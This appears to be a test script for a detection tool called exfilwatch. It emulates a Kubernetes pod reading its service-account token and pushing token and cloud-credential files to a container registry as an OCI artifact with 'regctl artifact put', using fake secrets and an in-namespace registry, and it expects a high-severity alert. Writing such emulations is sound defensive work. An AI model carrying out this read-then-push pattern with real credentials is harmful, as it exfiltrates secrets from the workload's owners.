#!/bin/sh
# Emulates scenario regctl-artifact-put-secrets (examples/scenarios/regctl-artifact-put-secrets.yaml):
# The pod's service-account token and cloud credentials pushed to ghcr.io as an OCI artifact with `regctl artifact put`.
#
# The script reads the pod's real service-account token (that read is what exfilwatch flags) but puts a FAKE
# placeholder into the artifact instead of it, next to fake cloud credentials that regctl reads itself. The
# registry is plain HTTP, so `regctl registry set --tls disabled` comes first. Safe version: fake token and
# credentials, the in-namespace registry instead of ghcr.io.
#
# Image: ghcr.io/regclient/regctl:v0.8.0-alpine
# Expected alert: sensitive-read-then-push, severity high
set -eu
# shellcheck source=lib.sh
. "$(dirname "$0")/lib.sh"

emu_need regctl
emu_check_target "$EMU_REGISTRY"
emu_read_sa_token
work="$EMU_WORKDIR/regctl-artifact-put-secrets"
rm -rf "$work"
HOME="$work/home"
emu_fake_secrets "$HOME"
printf 'FAKE-SERVICE-ACCOUNT-TOKEN-EXAMPLE\n' >"$work/token"
emu_retry 12 regctl registry set --tls disabled "$EMU_REGISTRY"
emu_retry 12 regctl artifact put --artifact-type application/vnd.acme.cache "$EMU_REGISTRY/pkg-cache-7/blob:1" \
  -f "$work/token" -f "$HOME/.aws/credentials"
rm -rf "$work"
emu_expect sensitive-read-then-push high
